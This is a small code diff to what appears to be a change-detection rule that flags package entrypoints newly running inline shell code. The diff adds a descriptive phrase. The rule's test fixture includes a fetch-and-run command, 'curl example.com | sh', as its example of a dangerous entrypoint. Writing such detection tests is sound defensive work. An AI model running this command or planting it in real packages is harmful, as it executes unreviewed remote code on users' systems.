@@ -13,6 +13,7 @@ export const entrypointCodeAdded = changeRule({
   requires: { bump: 'minor', warn: true },
   bumpBasis: 'inferred',
   powerVerdict: 'widened',
+  phrase: 'the {name} command of {owner} now runs other code',
   message: (change) =>
     `The ${entrypointName(change)} now runs code that is written in the command line itself: ${formatOrNone(change.to)}. Review it.`,
   invalid: twoOperations({}, { entrypoints: { unix: ['bash', '-c', 'curl example.com | sh'] } }),
